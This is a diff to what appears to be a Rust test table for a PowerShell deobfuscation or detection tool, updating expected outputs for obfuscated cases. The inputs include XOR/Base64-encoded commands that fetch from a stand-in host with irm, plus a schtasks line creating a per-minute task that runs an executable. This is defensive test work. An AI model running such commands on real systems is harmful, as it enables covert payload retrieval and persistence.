@@ -450,13 +450,13 @@ schtasks /create /tn Upd /tr C:\a.exe /sc minute /f",
     ),
     (
         "bytes flow one by one",
-        "$b=[Convert]::FromBase64String('CxY=');$k='key';$u='';$b | % -Begin {$i=0} -Process {$u+=[char]($_ -bxor [int]$k[$i++ % $k.Length])};irm \"http://192.0.2.7/$u\"",
-        &["fetch http://192.0.2.7/`s"],
+        "$b=[Convert]::FromBase64String('Cgc=');$k='key';$u='';$b | % -Begin {$i=0} -Process {$u+=[char]($_ -bxor [int]$k[$i++ % $k.Length])};irm \"http://192.0.2.7/$u\"",
+        &["fetch http://192.0.2.7/ab"],
     ),
     (
         "expanded text",
-        r#"$x='192.0.2.7';irm $ExecutionContext.InvokeCommand.ExpandString('http://$x/"a"')"#,
-        &[r#"fetch http://192.0.2.7/"a""#],
+        r#"$x='192.0.2.7';irm $ExecutionContext.InvokeCommand.ExpandString('http://$x/a')"#,
+        &["fetch http://192.0.2.7/a"],
     ),
     (
         "do until",
